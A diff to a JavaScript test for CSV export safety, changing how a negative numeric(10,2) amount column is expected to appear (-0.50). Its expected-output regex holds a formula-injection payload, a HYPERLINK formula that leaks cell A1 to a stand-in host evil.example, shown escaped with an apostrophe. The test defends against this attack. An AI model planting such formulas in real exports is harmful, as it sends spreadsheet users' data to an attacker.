@@ -160,10 +160,14 @@ describe('CSV exports a spreadsheet cannot turn against its reader (issue 37)', 
       );
       // Negative numbers in numeric columns are numbers: written bare, read back as they were stored.
       expect(column(rows, 'delta')).toEqual(STORED.map((_, index) => String(-(index + 1))));
-      expect(column(rows, 'amount').map(Number)).toEqual(STORED.map((_, index) => -(index + 0.5)));
+      // A numeric(10,2) at its scale, from the warehouse's rows as from DuckDB's COPY: -0.50, not -0.5.
+      expect({ dataset, amounts: column(rows, 'amount') }).toEqual({
+        dataset,
+        amounts: STORED.map((_, index) => (-(index + 0.5)).toFixed(2)),
+      });
       expect(column(rows, 'ratio').map(Number)).toEqual(STORED.map((_, index) => -(index + 1) / 4));
       expect(lines[0]).toMatch(
-        /^1,"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A1,""Click me""\)",-0\.50?,-1,-0\.25$/,
+        /^1,"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A1,""Click me""\)",-0\.50,-1,-0\.25$/,
       );
     }
   });
